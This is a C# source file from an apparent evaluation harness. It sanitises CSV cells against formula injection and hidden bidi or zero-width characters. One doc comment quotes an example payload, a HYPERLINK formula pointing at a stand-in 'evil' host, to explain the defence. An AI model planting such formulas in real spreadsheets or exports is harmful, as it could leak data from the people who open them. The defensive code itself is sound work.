using System.Buffers;
using System.Globalization;
using System.Text;

namespace EvalHarness.Reporting.Csv;

/// <summary>
/// Turns values into CSV cells. Text and numbers are kept apart on purpose: only text can carry a
/// formula, and a number that went through the text path would be mangled (-0.5 would become '-0.5
/// and stop being a number in the spreadsheet).
/// </summary>
internal static class CsvCells
{
    // Characters a spreadsheet shows as nothing (or acts on) although they change what the cell says:
    // C0 and C1 controls, bidi embeddings, overrides, isolates and marks, which can reorder what a
    // reviewer reads ("=cmd" shown as "dmc="), and zero-width characters, which hide inside words and
    // ids. Tab, line feed and carriage return are ordinary text in an answer and stay.
    private static readonly SearchValues<char> Hidden = SearchValues.Create(
        "\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000B\u000C\u000E\u000F"
        + "\u0010\u0011\u0012\u0013\u0014\u0015\u0016\u0017\u0018\u0019\u001A\u001B\u001C\u001D\u001E\u001F"
        + "\u007F\u0080\u0081\u0082\u0083\u0084\u0085\u0086\u0087\u0088\u0089\u008A\u008B\u008C\u008D\u008E\u008F"
        + "\u0090\u0091\u0092\u0093\u0094\u0095\u0096\u0097\u0098\u0099\u009A\u009B\u009C\u009D\u009E\u009F"
        + "\u061C\u200B\u200C\u200D\u200E\u200F\u2028\u2029\u202A\u202B\u202C\u202D\u202E\u2060\u2066\u2067\u2068\u2069\uFEFF");

    /// <summary>
    /// A text cell from a model, a dataset or an endpoint. Invisible characters become visible
    /// <c>\uXXXX</c> escapes (<see cref="Hidden"/>), then the cell is neutralised against formula
    /// injection: spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell that starts with =,
    /// +, - or @ as a formula, and a model answer like <c>=HYPERLINK("http://evil","x")</c> would then
    /// run (or exfiltrate data) on the machine of whoever opens samples.csv. A leading tab or carriage
    /// return can hide such a start from a reader, and importers that trim leading spaces make
    /// <c>" =1+1"</c> a formula too. Following the OWASP CSV injection guidance, such cells get a
    /// leading single quote, which spreadsheets read as "this is text". Line feed and the full-width
    /// forms of the four signs are included as cheap insurance: Japanese output is common here, and how
    /// a spreadsheet treats them varies by locale.
    /// </summary>
    public static string Text(string? value)
    {
        if (string.IsNullOrEmpty(value))
        {
            return string.Empty;
        }

        var text = Visible(value);
        return IsFormulaStart(text[0]) || IsFormulaStart(FirstNonWhiteSpace(text)) ? "'" + text : text;
    }

    /// <summary>A number the harness produced itself: invariant culture, shortest round-trip form, never quoted.</summary>
    public static string Number(double? value) => value switch
    {
        null => string.Empty,
        { } v when double.IsFinite(v) => v.ToString("R", CultureInfo.InvariantCulture),

        // "-Infinity" is not a number to a spreadsheet, so it is treated as the text it is.
        { } v => Text(v.ToString(CultureInfo.InvariantCulture)),
    };

    public static string Integer(long? value) => value?.ToString(CultureInfo.InvariantCulture) ?? string.Empty;

    public static string Boolean(bool value) => value ? "true" : "false";

    private static string Visible(string value)
    {
        var next = value.AsSpan().IndexOfAny(Hidden);
        if (next < 0)
        {
            return value;
        }

        var result = new StringBuilder(value.Length + 16);
        var rest = value.AsSpan();
        while (next >= 0)
        {
            result.Append(rest[..next]).Append("\\u").Append(((int)rest[next]).ToString("X4", CultureInfo.InvariantCulture));
            rest = rest[(next + 1)..];
            next = rest.IndexOfAny(Hidden);
        }

        return result.Append(rest).ToString();
    }

    private static char FirstNonWhiteSpace(string text)
    {
        foreach (var c in text)
        {
            if (!char.IsWhiteSpace(c))
            {
                return c;
            }
        }

        return ' ';
    }

    private static bool IsFormulaStart(char c) => c is '=' or '+' or '-' or '@' or '\t' or '\r' or '\n'
        or '＝' or '＋' or '－' or '＠';
}
